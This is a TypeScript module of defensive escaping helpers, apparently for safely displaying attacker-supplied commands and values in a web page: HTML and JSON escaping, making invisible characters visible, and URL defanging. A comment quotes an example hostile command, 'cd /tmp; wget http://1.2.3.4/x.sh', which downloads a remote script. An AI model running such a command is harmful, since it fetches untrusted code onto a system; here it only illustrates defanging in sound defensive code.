/**
 * Escaping for every context an attacker-chosen string can reach in a page (DESIGN.md
 * "Untrusted text"): HTML text and attributes, JSON inside <script>, URLs shown but never linked.
 * Control and bidirectional-override characters are made visible rather than passed on, so a
 * value cannot hide text, reorder a line or break the one-line shortcode output.
 */

const HTML_ESCAPES: Record<string, string> = {
  "&": "&amp;",
  "<": "&lt;",
  ">": "&gt;",
  '"': "&quot;",
  "'": "&#39;",
};

/** Escapes text for HTML text content and for double- or single-quoted attribute values. */
export function escapeHtml(value: unknown): string {
  return String(value ?? "").replace(/[&<>"']/g, (c) => HTML_ESCAPES[c]!);
}

// C0/C1 controls, DEL, bidi embeddings/overrides/isolates, zero-width and line/paragraph separators.
const INVISIBLE = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/g;

/**
 * Shows invisible characters as escapes: "\n", "\t", "\x1b", "\u202e". The result holds no line
 * break, so it can never end a Markdown HTML block early.
 */
export function visible(value: string): string {
  return value.replace(INVISIBLE, (c) => {
    if (c === "\n") return "\\n";
    if (c === "\r") return "\\r";
    if (c === "\t") return "\\t";
    const code = c.charCodeAt(0);
    return code <= 0xff ? `\\x${code.toString(16).padStart(2, "0")}` : `\\u${code.toString(16).padStart(4, "0")}`;
  });
}

/**
 * Shortens to at most `max` characters (counting code points, so no surrogate pair is cut),
 * marking the cut with "…".
 */
export function shorten(value: string, max: number): string {
  const chars = Array.from(value);
  if (chars.length <= max) return value;
  return chars.slice(0, Math.max(1, max - 1)).join("") + "…";
}

/** Longest value kept in a title attribute: enough to read any real command, bounded for page size. */
const TITLE_MAX = 2000;

/**
 * An attacker string as inline HTML: URLs inside defanged (a wget in a command, a password that is
 * a link), visible escapes, HTML-escaped, shortened to `max` characters with the whole value (up
 * to a bound) in a title attribute. Wrapped in <code>.
 */
export function untrustedCode(value: string, max: number): string {
  const shown = visible(defangUrls(value));
  const short = shorten(shown, max);
  const title = short === shown ? "" : ` title="${escapeHtml(shorten(shown, TITLE_MAX))}"`;
  return `<code class="untrusted"${title}>${escapeHtml(short)}</code>`;
}

/**
 * Defangs a URL for display: "http" → "hxxp", "://" kept, dots of the host bracketed
 * ("evil[.]example"), so that neither a browser nor a chat client turns it into a link.
 */
export function defangUrl(url: string): string {
  const m = /^([a-z][a-z0-9+.-]*):\/\/([^/?#]*)(.*)$/is.exec(url);
  // Dots already bracketed stay as they are, so defanging twice changes nothing.
  const bracketDots = (s: string) => s.replace(/(?<!\[)\.(?!\])/g, "[.]");
  if (!m) return bracketDots(url);
  const scheme = m[1]!.toLowerCase().replace(/^http/, "hxxp").replace(/^ftp/, "fxp");
  const host = bracketDots(m[2]!);
  return `${scheme}://${host}${m[3]}`;
}

/**
 * Defangs every URL inside free text ("cd /tmp; wget http://1.2.3.4/x.sh" → "… hxxp://1[.]2[.]3[.]4/x.sh").
 */
export function defangUrls(text: string): string {
  return text.replace(/\b[a-z][a-z0-9+.-]*:\/\/[^\s"'<>]*/gi, (url) => defangUrl(url));
}

/**
 * JSON for a <script type="application/json"> element: `<`, `>`, `&` and the JS line separators
 * are written as \u escapes, so "</script>" or "<!--" in a value cannot end or change the element.
 */
export function jsonForScript(value: unknown): string {
  return JSON.stringify(value)
    .replace(/</g, "\\u003c")
    .replace(/>/g, "\\u003e")
    .replace(/&/g, "\\u0026")
    .replace(/\u2028/g, "\\u2028")
    .replace(/\u2029/g, "\\u2029");
}
